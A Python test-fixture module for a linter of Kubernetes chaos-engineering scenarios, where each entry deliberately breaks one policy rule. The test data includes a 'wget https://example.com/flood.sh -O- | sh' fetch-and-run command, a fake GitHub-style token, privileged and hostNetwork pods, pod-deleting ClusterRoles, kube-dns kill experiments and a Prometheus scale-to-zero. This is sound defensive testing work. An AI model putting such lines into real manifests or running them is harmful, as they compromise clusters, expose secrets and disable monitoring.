"""Violations of the policies by kind of file: scenarios as changes of `spec`, the others as edits of a good text."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from scenario_kit.load.yaml.edit import Drop, Edit, Put, Rename

Spec = dict[str, Any]


def pod(kind: str = "Pod", name: str = "shell", **spec: Any) -> dict[str, Any]:
    """A decoy's change that creates a pod of one pinned image."""
    body = {"containers": [{"name": "main", "image": "busybox:1.37.0"}], **spec}
    return {"create": {"apiVersion": "v1", "kind": kind, "metadata": {"name": name}, "spec": body}}


def role(kind: str, **more: Any) -> dict[str, Any]:
    version = "rbac.authorization.k8s.io/v1"
    return {"create": {"apiVersion": version, "kind": kind, "metadata": {"name": "viewer"}, **more}}


def service(annotations: dict[str, str] | None = None, **spec: Any) -> dict[str, Any]:
    metadata = {"name": "viewer", "annotations": annotations or {}}
    return {"create": {"apiVersion": "v1", "kind": "Service", "metadata": metadata, "spec": {"ports": [], **spec}}}


def decoy(change: dict[str, Any]) -> Callable[[Spec], None]:
    return lambda spec: spec["decoys"][0].update(changes=[change])


def container(**more: Any) -> list[dict[str, Any]]:
    return [{"name": "main", "image": "busybox:1.37.0", **more}]


def put_fetching_script(spec: Spec) -> None:
    script = "#!/bin/sh\napk add curl\n"
    body = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "scripts"}, "data": {"run.sh": script}}
    spec["decoys"][0]["changes"] = [{"create": body}]


def put_random_pod_experiment(spec: Spec) -> None:
    """An experiment on one pod of several."""
    labels = {"opentelemetry.io/name": "cart"}
    body = {"action": "pod-kill", "mode": "one", "selector": {"labelSelectors": labels}}
    chaos = {"apiVersion": "chaos-mesh.org/v1alpha1", "kind": "PodChaos", "metadata": {"name": "x"}, "spec": body}
    spec["decoys"][0]["changes"] = [{"chaos": chaos}]


def put_revealing_parameter(spec: Spec) -> None:
    """A name of the scenario's own that a fault takes over."""
    spec["faults"].append(
        {
            "name": "variable",
            "type": "env-var-shadowed",
            "target": "Deployment/cart",
            "parameters": {"name": "VALKEY_ADDR", "value": "lossy-cache:6379"},
            "role": "Distractor",
        }
    )


def hint_by_parameter(spec: Spec) -> None:
    """A parameter with the answer, which a fault gives to a container that logs it."""
    put_revealing_parameter(spec)
    fault = {"type": "init-container-dependency-missing", "parameters": {"serviceName": "culprit-cart"}}
    spec["faults"][-1].update(fault)


def put_unread_variable(spec: Spec) -> None:
    """A variable that no part of the lab reads."""
    parameters = {"name": "GOMEMLIMIT", "value": "16", "container": "checkout"}
    spec["faults"].append(
        {
            "name": "variable",
            "type": "env-value-wrong",
            "target": "Deployment/checkout",
            "parameters": parameters,
            "role": "Distractor",
        }
    )


#: A token of a form that only real ones have, put together here so that no scanner finds it in this file.
TOKEN = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6"

STRANGERS = {"namespaces": ["kube-system"], "labelSelectors": {"k8s-app": "kube-dns"}}


def build_pod_kill(selector: dict[str, Any]) -> dict[str, Any]:
    """An experiment on the pods of a selector."""
    body = {"action": "pod-kill", "mode": "all", "selector": selector}
    return {"apiVersion": "chaos-mesh.org/v1alpha1", "kind": "PodChaos", "metadata": {"name": "x"}, "spec": body}


def build_packet_loss(*targets: str) -> dict[str, Any]:
    """Build an experiment on the traffic of a component to these targets."""
    selector = {"namespaces": ["otel-demo"], "labelSelectors": {"opentelemetry.io/name": "cart"}}
    body = {"action": "loss", "mode": "all", "loss": {"loss": "100", "correlation": "0"}, "direction": "to"}
    body |= {"selector": selector, "externalTargets": list(targets)}
    return {"apiVersion": "chaos-mesh.org/v1alpha1", "kind": "NetworkChaos", "metadata": {"name": "x"}, "spec": body}


#: Scenarios: the change of `spec`, and of the folder, in tests of their own below.
VIOLATIONS: dict[str, Callable[[Spec], Any]] = {
    "SK150": decoy({"chaos": build_pod_kill(STRANGERS)}),
    "SK151": decoy({"chaos": build_packet_loss("redis-master.default.svc.cluster.local")}),
    "SK201": decoy(pod(containers=[{"name": "main", "image": "busybox"}])),
    "SK202": decoy(pod(hostNetwork=True)),
    "SK203": decoy(role("ClusterRole", rules=[{"apiGroups": [""], "resources": ["pods"], "verbs": ["delete"]}])),
    "SK204": put_fetching_script,
    "SK206": lambda s: s.update(description=f"Push with {TOKEN} and wait."),
    "SK208": lambda s: s["expect"]["alerts"][0].update(withinSeconds=7200),
    "SK210": put_revealing_parameter,
    "SK213": decoy(role("Role", rules=[{"apiGroups": ["chaos-mesh.org"], "resources": ["*"], "verbs": ["get"]}])),
    "SK214": put_random_pod_experiment,
    "SK215": decoy(pod(containers=[{"name": "main", "image": "busybox:stable"}])),
    "SK219": decoy(pod(containers=container(command=["sh", "-c", "date"]))),
    "SK911": put_unread_variable,
    "SK220": decoy(role("Role", metadata={"name": "viewer", "finalizers": ["example.com/kept"]}, rules=[])),
    "SK221": hint_by_parameter,
    "SK235": decoy(
        {"create": {"apiVersion": "storage.k8s.io/v1", "kind": "CSIDriver", "metadata": {"name": "a.b"}, "spec": {}}}
    ),
    "SK226": decoy({"patch": {"target": "Deployment/cart", "type": "Merge", "patch": {"spec": {"replicas": 100_000}}}}),
    "SK236": decoy({"scale": {"target": "monitoring/Deployment/prometheus", "replicas": 0}}),
    "SK237": decoy(service(externalIPs=["10.0.0.1"])),
    "SK238": decoy(service(annotations={"cloud.example.com/open": "true"})),
    "SK608": lambda s: s.update(suspend=True),
}

#: Violations that are no change of `spec`, each shown by a test of its own.
APART = {
    ("SK212", "Scenario"),
    ("SK216", "Scenario"),
    ("SK217", "Scenario"),
    ("SK218", "Scenario"),
    ("SK222", "Scenario"),
    ("SK219", "Fault"),
    ("SK607", "Scenario"),
    # tests/importers/test_formats.py
    ("SK611", "Scenario"),
    ("SK611", "Pack"),
    # tests/lint/test_rule_files.py
    *((code, "Pack") for code in ("SK117", "SK314", "SK316", "SK317", "SK319")),
    # tests/lint/test_modelines.py: it is of a comment
    *(("SK170", kind) for kind in ("Scenario", "Fault", "App", "Pack")),
}

#: A good fault. The comments must survive every correction.
FAULT = """\
# head
name: labels-lost
version: 1
title: A Service selects no pods
description: The selector of the Service gets a label that no pod has.
targets: [Service]
parameters:
  type: object
  additionalProperties: false
  properties:
    label: {type: string, description: The label that no pod has., default: tier}
changes:
# first
- create:  # a companion
    apiVersion: apps/v1
    kind: Deployment
    metadata: {name: "{{ neutral('batch') }}", labels: {app: batch}}
    spec:
      selector: {matchLabels: {app: "{{ neutral('batch') }}"}}
      template:
        metadata: {labels: {app: "{{ neutral('batch') }}"}}
        spec:
          volumes: [{name: data, emptyDir: {}}]
          containers:
          - name: main
            image: busybox:1.37.0  # pinned
            command: [sleep, "3600"]
# second
- patch:
    target: "{{ target }}"
    type: Merge
    patch: {spec: {selector: {"{{ parameters.label }}": "{{ neutral('set') }}"}}}
effect:
- endpoints: {service: "{{ target }}", atMost: 0}
  withinSeconds: 120
undone:
- endpoints: {service: "{{ target }}", atLeast: 1}
entities:
- {ref: "{{ target }}", field: spec.selector, role: Cause}
mitigation: Native
solutions:
- name: restore
  changes:
  - patch:
      target: "{{ target }}"
      type: Json
      patch: [{op: replace, path: /spec/selector, value: "{{ object.spec.selector }}"}]
requires: [real-data-plane]
# tail
"""
CREATE = ("changes", 0, "create")
POD = (*CREATE, "spec", "template", "spec")
MAIN = (*POD, "containers", 0)


def add_fault_change(**body: Any) -> list[Edit]:
    """One more change of the fault."""
    return [Put(("changes", 2), {"create": body})]


def add_solution_change(**body: Any) -> list[Edit]:
    """One more change of the fault's solution."""
    return [Put(("solutions", 0, "changes", 1), {"create": body})]


def build_merge_patch(patch: dict[str, Any]) -> dict[str, Any]:
    """A patch of the target."""
    return {"patch": {"target": "{{ target }}", "type": "Merge", "patch": patch}}


def add_effect_query(expr: str) -> list[Edit]:
    """One more proof of the fault, by a query."""
    return [Put(("effect", 1), {"query": {"expr": expr, "is": "Equal", "value": 0}})]


def build_schedule() -> dict[str, Any]:
    """A Schedule of packet loss in the target's pods."""
    selector = {"namespaces": ["{{ target.namespace }}"], "labelSelectors": "{{ pod_selector(target) }}"}
    body = {"action": "loss", "mode": "all", "loss": {"loss": "100"}, "selector": selector, "duration": "55m"}
    spec = {"schedule": "@every 5h", "type": "NetworkChaos", "networkChaos": body}
    about = {"apiVersion": "chaos-mesh.org/v1alpha1", "kind": "Schedule", "metadata": {"name": "{{ neutral('net') }}"}}
    return {**about, "spec": {**spec, "historyLimit": 1, "concurrencyPolicy": "Forbid"}}


RBAC = {"apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "{{ neutral('view') }}"}}
#: Edits of the good fault. Every rule that judges faults has one.
FAULTS: dict[str, list[Edit]] = {
    "SK142": [Rename((*MAIN, "command"), "comand")],
    "SK143": [Put(("changes", 0, "create", "apiVersion"), "app/v1")],
    "SK150": [
        Put(("changes", 2), {"chaos": {**build_pod_kill(STRANGERS), "metadata": {"name": "{{ neutral('pod') }}"}}}),
        Put(("requires",), ["real-data-plane", "chaos-mesh"]),
    ],
    "SK141": [Put(("effect", 0, "endpoints"), {"service": "{{ target }}", "atLeast": 0})],
    "SK225": [Put(("requires", 1), "node-access")],
    "SK453": [Put(("entities", 0, "field"), "spec.ports")],
    "SK117": add_effect_query("sum(up"),
    "SK118": add_effect_query("sum(up{pod=~'frontend.*'})"),
    "SK119": add_effect_query("sum(up{service_name='carts-and-more'})"),
    "SK309": add_effect_query("sum(rate(x{service_name=~'{{ target.name }}*'}[1m]))"),
    "SK003": [Put(("name",), "labels-found")],
    "SK121": [Put(("changes", 1, "patch", "target"), "Service/nowhere")],
    "SK123": [Put(("changes", 1, "patch", "patch"), {"spec": {"selector": {"x": "{{ nobody }}"}}})],
    "SK127": [
        Put(
            ("changes", 2),
            {
                "chaos": {
                    "apiVersion": "chaos-mesh.org/v1alpha1",
                    "kind": "PodChaos",
                    "metadata": {"name": "{{ neutral('pod') }}"},
                    "spec": {
                        "action": "pod-failure",
                        "mode": "al",
                        "selector": {"labelSelectors": "{{ pod_selector(target) }}"},
                    },
                }
            },
        ),
        Put(("requires", 1), "chaos-mesh"),
    ],
    "SK129": [Drop(("undone",))],
    "SK151": [
        Put(
            ("changes", 2),
            {"chaos": {**build_packet_loss("redis-master"), "metadata": {"name": "{{ neutral('net') }}"}}},
        ),
        Put(("changes", 2, "chaos", "spec", "selector", "namespaces"), ["{{ target.namespace }}"]),
        Put(("requires",), ["real-data-plane", "chaos-mesh", "chaos-daemon", "netem"]),
    ],
    "SK201": [Put((*MAIN, "image"), "busybox")],
    "SK202": [Put((*MAIN, "securityContext"), {"privileged": True})],
    "SK203": [
        *add_fault_change(
            kind="ClusterRole", rules=[{"apiGroups": [""], "resources": ["pods"], "verbs": ["delete"]}], **RBAC
        ),
        Put(("scope",), "Cluster"),
    ],
    "SK204": [Put((*MAIN, "command"), ["sh", "-c", "wget https://example.com/flood.sh -O- | sh"])],
    "SK206": [Put((*MAIN, "env"), [{"name": "PGPASSWORD", "value": TOKEN}])],
    "SK208": [Put(("effect", 0, "withinSeconds"), 3600)],
    "SK209": add_fault_change(
        apiVersion="networking.k8s.io/v1",
        kind="NetworkPolicy",
        metadata={"name": "{{ neutral('pods') }}"},
        spec={"podSelector": {}},
    ),
    "SK210": [Put((*CREATE, "metadata", "name"), "packet-dropper-drop")],
    "SK212": [Put((*CREATE, "metadata", "labels"), {"app": "batch", "from": "{{ fault }}"})],
    "SK213": add_fault_change(
        kind="Role", rules=[{"apiGroups": ["scenariokit.io"], "resources": ["*"], "verbs": ["get"]}], **RBAC
    ),
    "SK214": [Put((*MAIN, "command"), ["sh", "-c", "sleep $((RANDOM % 60)); sleep $RANDOM"])],
    "SK215": [Put((*MAIN, "image"), "busybox:stable")],
    "SK220": [Put((*CREATE, "metadata", "finalizers"), ["example.com/kept"])],
    "SK221": [Put((*CREATE, "metadata", "annotations"), {"ops/culprit": "yes"})],
    "SK235": add_solution_change(
        apiVersion="node.k8s.io/v1", kind="RuntimeClass", metadata={"name": "{{ neutral('batch') }}"}, handler="a"
    ),
    "SK226": [Put((*CREATE, "spec", "replicas"), 100_000)],
    "SK236": [
        Put(("changes", 2), {"scale": {"target": "monitoring/Deployment/prometheus", "replicas": 0}}),
        Put(("scope",), "Cluster"),
    ],
    "SK237": [
        Put(("changes", 1, "patch", "patch"), {"spec": {"externalIPs": ["10.0.0.1"]}}),
        Put(("entities", 0, "field"), "spec.externalIPs"),
    ],
    "SK238": add_solution_change(
        apiVersion="v1",
        kind="ServiceAccount",
        metadata={"name": "{{ neutral('batch') }}", "annotations": {"cloud.example.com/open": "true"}},
    ),
    "SK239": [Put(("exceptions",), [{"allow": "PodSecurity", "because": "It may be of use"}])],
    "SK404": [
        Put(("changes", 2), {"chaos": build_schedule()}),
        Put(("requires",), ["real-data-plane", "chaos-mesh", "chaos-daemon", "netem"]),
    ],
    "SK413": [Put(("solutions", 0, "changes", 0), {"removeFault": {"fault": "{{ fault }}"}})],
    "SK414": [Drop(("mitigation",))],
    "SK304": [Put(("changes", 1, "patch", "patch"), {"spec": {"selector": "{{ object.spec.selector }}"}})],
    "SK428": [Put(("entities", 0, "fix"), [build_merge_patch({"metadata": {"annotations": {"note": "x"}}})])],
    "SK434": [
        Put(
            ("solutions", 0, "changes", 0, "patch", "patch", 1),
            {"op": "replace", "path": "/spec/ports/0/port", "value": 9},
        )
    ],
    "SK435": [Put(("persistence",), "SelfHeals")],
    "SK911": [
        Put(
            ("changes", 0),
            {"patch": {"target": "{{ target }}", "type": "Merge", "patch": {"spec": {"externalIPs": []}}}},
        ),
        Put(("changes", 1, "patch", "patch"), {"spec": {"sessionAffinity": "ClientIP"}}),
        Drop(("requires",)),
        Put(("entities", 0, "field"), "spec.sessionAffinity"),
    ],
}
#: What `lint --fix` corrects in a fault: all of these whose rule says that it does.
REPAIRED = (
    "SK003",
    "SK142",
    "SK143",
    "SK201",
    "SK202",
    "SK208",
    "SK209",
    "SK210",
    "SK215",
    "SK221",
    "SK225",
    "SK226",
    "SK239",
)
#: What it corrects in scenarios, or in what the catalogue has; each shown by a test of its own.
REPAIRED_APART = ("SK139", "SK212", "SK214", "SK218")

#: A good app, and its template.
APP = """\
# head
name: little
title: A page
namespace: little
entry: web
twin: none
loads: {steady: {description: The same traffic all the time}}
options:
  type: object
  additionalProperties: false
  properties:
    agent: {description: Whether an agent runs on every node, type: boolean, default: false}
images: ["docker.io/library/nginx:1.29.3"]
versions:
  "1.0":
    components: [{name: web, workload: Deployment/web, service: web, role: Entry}]
# tail
"""
TEMPLATE = """\
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, labels: {app: web}}
spec:
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      containers:
      - name: web
        image: docker.io/library/nginx:1.29.3
        args: [serve]
---
apiVersion: v1
kind: Service
metadata: {name: web}
spec: {selector: {app: web}, ports: [{port: 8080, targetPort: 8080}]}
"""
CLUSTER_ROLE = """---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: web}
"""
#: Texts of the template that become others.
APPS: dict[str, tuple[str, str]] = {
    "SK142": ("args: [serve]", "arg: [serve]"),
    "SK143": ("apiVersion: apps/v1\n", "apiVersion: extensions/v1beta1\n"),
    "SK123": ("{name: web, labels", "{name: {{ nobody }}, labels"),
    "SK201": ("nginx:1.29.3", "nginx:latest"),
    "SK202": ("args: [serve]", "securityContext: {privileged: true}"),
    "SK203": (
        "---\n",
        CLUSTER_ROLE + 'rules: [{apiGroups: [""], resources: [pods], verbs: [get, delete]}]\n---\n',
    ),
    "SK204": ("args: [serve]", 'command: [sh, -c, "pip install flask && serve"]'),
    "SK206": ("args: [serve]", f"env: [{{name: A, value: {TOKEN}}}]"),
    "SK209": (
        "---\n",
        "---\napiVersion: v1\nkind: PersistentVolumeClaim\nmetadata: {name: data}\n"
        "spec: {accessModes: [ReadWriteOnce]}\n---\n",
    ),
    "SK236": ("{name: web}\nspec: {selector", "{name: web, namespace: monitoring}\nspec: {selector"),
    "SK213": (
        "---\n",
        CLUSTER_ROLE.replace("ClusterRole", "Role")
        + "rules: [{apiGroups: [chaos-mesh.org], resources: ['*'], verbs: [get]}]\n---\n",
    ),
    "SK215": ("nginx:1.29.3", "nginx:stable"),
    "SK235": ("---\n", "---\napiVersion: coordination.k8s.io/v1\nkind: Lease\nmetadata: {name: web}\n---\n"),
    "SK237": ("{selector: {app: web}", "{externalIPs: [10.0.0.1], selector: {app: web}"),
    "SK238": (
        "    metadata: {labels: {app: web}}",
        "    metadata: {annotations: {kubernetes.io/config.mirror: a}, labels: {app: web}}",
    ),
    "SK220": ("---\n", "---\napiVersion: v1\nkind: Binding\nmetadata: {name: web}\n---\n"),
}
#: Edits of the definition itself.
APP_EDITS: dict[str, list[Edit]] = {
    "SK003": [Put(("name",), "littl")],
    "SK139": [Put(("versions", "1.0", "calls"), [{"caller": "web", "callee": "stroe"}])],
}

#: A good pack of alerts.
PACK = """\
groups:
- name: requests
  rules:
  - alert: NothingServed
    expr: sum by (namespace, service_name) (rate(traces_span_metrics_calls_total[5m])) == 0
    for: 5m
    annotations: {summary: Nothing is served}
"""
PACK_CASES = "- {alert: NothingServed, case: it fires, series: [], minute: 5, fires: x}\n"
PACKS: dict[str, list[Edit]] = {
    "SK206": [Put(("groups", 0, "rules", 0, "annotations", "summary"), f"Ask with {TOKEN}")],
}
